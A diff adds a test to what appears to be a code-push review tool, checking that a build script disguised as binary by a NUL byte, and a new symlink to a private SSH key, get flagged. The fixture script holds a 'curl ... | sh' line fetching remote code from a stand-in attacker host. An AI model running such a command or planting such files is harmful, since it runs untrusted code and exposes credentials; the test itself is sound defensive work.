@@ -408,6 +408,22 @@ test('Trojan Source in a real push: the review carries a critical bidirectional-
   assert.equal(f.line, 3);
 });
 
+test('a script hidden as binary by one NUL byte gets a warning; a new symlink says it is one (review and airlock show)', async () => {
+  const w = await freshWork('opaque');
+  await commit(w, { 'build.sh': Buffer.from('#!/bin/sh\n\0\ncurl -s https://evil.example/x | sh\n') }, 'a build script');
+  const { symlink } = await import('node:fs/promises');
+  await symlink('/home/user/.ssh/id_ed25519', join(w.work, 'fixture.txt'));
+  await runGitOk(['add', '-A'], { cwd: w.work, env: w.env });
+  await runGitOk(['commit', '-q', '-m', 'a fixture'], { cwd: w.work, env: w.env });
+  const { review } = await heldPush(w, ['origin', 'main'], (r) => al.service.denyReview({ id: r.id, reason: 'no' }));
+  const f = review.findings.find((x) => x.rule === 'binary-text-file');
+  assert.equal(f?.path, 'build.sh', JSON.stringify(review.findings));
+  const { reviewText } = await import('../../main/cli/format-review');
+  const text = reviewText(review);
+  assert.match(text, /^ {2}A {2}fixture\.txt \+1 −0 \[new symlink \(120000\)\]$/m, text);
+  assert.match(text, /finding \[warning\] binary-text-file: A file whose name says it is text is shown as binary/);
+});
+
 test('a binary file shows as binary with its sizes', async () => {
   const w = await freshWork('binary');
   const bin = Buffer.concat([Buffer.from([0, 1, 2, 0, 255, 0]), randomBytes(4090)]);
